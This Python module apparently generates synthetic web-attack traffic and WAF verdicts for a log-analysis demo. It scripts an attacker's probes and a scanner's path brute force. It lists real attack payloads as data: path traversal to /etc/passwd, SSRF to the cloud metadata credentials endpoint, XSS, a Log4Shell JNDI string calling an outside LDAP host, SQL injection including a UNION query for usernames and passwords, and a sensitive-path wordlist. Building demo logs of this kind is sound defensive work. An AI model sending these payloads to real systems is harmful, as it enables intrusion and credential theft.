"""The story's requests to the public web stack (`web.Probe`s), with the verdicts the web ACL gives them.

- Before using the leaked key, the attacker looks at the web app: a few pages through CloudFront like a
  browser, then straight at the ALB's DNS name with scanners: secrets and CMS paths, path traversal
  (`/../../etc/passwd`), SQL injection (`' OR 1=1--`), XSS and SSRF in query strings. WAF blocks those; the
  harmless ones get answers.
- After its port scan, the scanner brute-forces paths on the ALB's address: Nmap's NSE first (its user agent
  is a known bad bot), then a word list, fast enough that the rate-based rule blocks it after a minute or two.
"""

from __future__ import annotations

import random

from loglake.demo.base import StoryPlan
from loglake.demo.estate import Estate
from loglake.demo.rand import derive
from loglake.demo.webcatalog import BROWSERS, NOISE_AGENTS, Agent
from loglake.demo.webrecords import US, Probe
from loglake.demo.webstack import WebStack, webstack_of
from loglake.demo.webwaf import RateCounter, evaluate

SQLMAP = Agent(
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "e7d705a3286e19ea42f587b344ee6865",
    "t13d311100_e8f1e7e78f70_d41ae481755e",
    False,
)
CURL = Agent("curl/8.4.0", "456523fc94726331a4d5a2e1d40b2cd7", "t13d4907h2_0d8feac7bc37_7395dae3b2f3", False)
GOBUSTER = Agent("gobuster/3.6", "473cd7cb9faa642487833865d516e578", "t13d190900_9dc949149365_97f8aa674fd9", False)
NMAP = next(a for a in NOISE_AGENTS if "Nmap" in a.ua)
NUCLEI = BROWSERS[0]._replace(ja3="19e29534fd49dd27d09234e639c4057e", ja4="t13d1812h1_85036bcba153_b26ce05bbdd6")

# (agent, method, path, query): what the attacker tries on the ALB, in order
_ATTACKER = [
    (CURL, "GET", "/", ""),
    (CURL, "GET", "/robots.txt", ""),
    (NUCLEI, "GET", "/.env", ""),
    (NUCLEI, "GET", "/.git/config", ""),
    (NUCLEI, "GET", "/wp-login.php", ""),
    (NUCLEI, "GET", "/wp-admin/setup-config.php", ""),
    (NUCLEI, "GET", "/phpmyadmin/index.php", ""),
    (NUCLEI, "GET", "/server-status", ""),
    (NUCLEI, "GET", "/actuator/env", ""),
    (NUCLEI, "GET", "/.aws/credentials", ""),
    (NUCLEI, "GET", "/config.php.bak", ""),
    (NUCLEI, "GET", "/../../etc/passwd", ""),
    (NUCLEI, "GET", "/static/../../../../etc/passwd", ""),
    (NUCLEI, "GET", "/", "file=../../../../etc/passwd"),
    (NUCLEI, "GET", "/", "url=http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    (NUCLEI, "GET", "/app/login", "next=%3Cscript%3Ealert(document.domain)%3C/script%3E"),
    (NUCLEI, "GET", "/", "x=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.66%3A1389%2Fa%7D"),
    (CURL, "GET", "/app/login", ""),
    (CURL, "GET", "/products", "id=1"),
    (SQLMAP, "GET", "/products", "id=1"),
    (SQLMAP, "GET", "/products", "id=1%27%20OR%201=1--"),
    (SQLMAP, "GET", "/products", "id=1%27%20OR%20%271%27=%271"),
    (SQLMAP, "GET", "/products", "id=1%20AND%201=1"),
    (SQLMAP, "GET", "/products", "id=1%27%20AND%20SLEEP(5)--%20-"),
    (SQLMAP, "GET", "/products", "id=1%20UNION%20SELECT%20NULL,NULL,NULL--%20-"),
    (SQLMAP, "GET", "/products", "id=1%27)%20OR%201=1--"),
    (SQLMAP, "GET", "/app/api/payments", "limit=20%27%20OR%201=1--"),
    (SQLMAP, "GET", "/app/api/payments", "limit=20%20UNION%20SELECT%20username,password%20FROM%20users--"),
    (SQLMAP, "GET", "/app/api/payments", "limit=20%27%20AND%20SLEEP(5)--"),
]
_ALLOWED_STATUS = {"/": 200, "/robots.txt": 200, "/app/login": 200, "/products": 200}
# the scanner's word list (then numbered variants to the length of a real one)
_WORDS = (
    "admin",
    "administrator",
    "backup",
    "backups",
    "old",
    "dev",
    "test",
    "tmp",
    "api",
    "api/v1",
    "login",
    "uploads",
    "images",
    "assets",
    "console",
    "dashboard",
    "config",
    "db",
    "sql",
    "debug",
    "private",
    "secret",
    "server-status",
    "phpinfo.php",
    "info.php",
    ".env",
    ".git/HEAD",
    ".svn/entries",
    ".DS_Store",
    "wp-login.php",
    "wp-admin/",
    "xmlrpc.php",
    "config.php",
    "web.config",
    "crossdomain.xml",
    "sitemap.xml",
    "robots.txt",
    "cgi-bin/",
    "manager/html",
    "jenkins",
    "grafana",
    "kibana",
    "solr",
    "adminer.php",
    "install",
    "setup",
)


def plan_web(story: StoryPlan, estate: Estate, seed: int, *, probe_at: int, scan_at: int) -> None:
    """Add the attacker's probing (at `probe_at`) and the scanner's path brute force (at `scan_at`) to `story`."""
    rng = derive(seed, "story", "web")
    stack = webstack_of(estate, seed)
    attacker_ip, scanner_ip = estate.attacker_ip, estate.scanner_ip
    probes = _attacker(rng, stack, attacker_ip, probe_at) + _scanner(rng, stack, scanner_ip, scan_at)
    probes.sort()
    story.web = probes
    facts, timeline = story.facts, story.timeline
    for who, ip, label in (("attacker", attacker_ip, "web_probe"), ("scanner", scanner_ip, "web_scan")):
        mine = [p for p in probes if p.client == ip]
        blocked = sum(p.verdict.action == "BLOCK" for p in mine)
        first, last = mine[0].t // US, mine[-1].t // US
        facts[f"{label}_requests"] = len(mine)
        facts[f"{label}_blocked"] = blocked
        facts[f"{label}_window"] = (first, last)
        what = "probes the web app" if who == "attacker" else "brute-forces paths on the ALB"
        timeline.append((first, f"{who} {ip} {what}: {len(mine)} requests, {blocked} blocked by WAF"))


def _attacker(rng: random.Random, stack: WebStack, ip: str, t: int) -> list[Probe]:
    out: list[Probe] = []
    t_us = t * US
    # first a look at the site through CloudFront, as a browser
    browser = BROWSERS[1]
    port = 40000 + int(rng.random() * 20000)
    for path, query, status in (("/", "", 200), ("/pricing", "", 200), ("/products", "id=1%27%20OR%201=1--", 200)):
        verdict = evaluate(stack.account, stack.web_acl_name, path, query, browser.ua)
        out.append(
            Probe(t_us, ip, port, True, "GET", "www.anycompany.example", path, query, browser, "https", verdict, status)
        )
        t_us += int((3 + rng.random() * 20) * US)
    t_us += 90 * US
    rate = RateCounter()
    port = 40000 + int(rng.random() * 20000)
    for i, (agent, method, path, query) in enumerate(_ATTACKER):
        if i % 8 == 0:  # a new connection now and then
            port = 40000 + int(rng.random() * 20000)
        limited = rate.hit(t_us / US)
        verdict = evaluate(stack.account, stack.web_acl_name, path, query, agent.ua, rate_limited=limited)
        status = _ALLOWED_STATUS.get(path, 404)
        out.append(Probe(t_us, ip, port, False, method, stack.alb_dns, path, query, agent, "https", verdict, status))
        t_us += int((1.5 + rng.random() * 12) * US)
    return out


def _scanner(rng: random.Random, stack: WebStack, ip: str, t: int) -> list[Probe]:
    out: list[Probe] = []
    host = stack.nodes[0].public_ip or stack.alb_dns
    t_us = t * US
    rate = RateCounter()
    paths = ["/" + w for w in _WORDS]
    paths += [f"/{w}{suffix}" for suffix in ("1", "2", "_old", ".bak", ".zip") for w in _WORDS[:40]]
    plan = [(NMAP, p) for p in ("/", "/admin", "/.git/HEAD", "/server-status", "/robots.txt", "/login")]
    plan += [(GOBUSTER, p) for p in paths]
    port = 50000 + int(rng.random() * 10000)
    for i, (agent, path) in enumerate(plan):
        if i % 25 == 0:
            port = 50000 + int(rng.random() * 10000)
        limited = rate.hit(t_us / US)
        verdict = evaluate(stack.account, stack.web_acl_name, path, "", agent.ua, rate_limited=limited)
        status = 200 if path in ("/", "/robots.txt", "/sitemap.xml") else 404
        out.append(Probe(t_us, ip, port, False, "GET", host, path, "", agent, "https", verdict, status))
        t_us += int((0.2 + rng.random() * 0.5) * US)
    return out
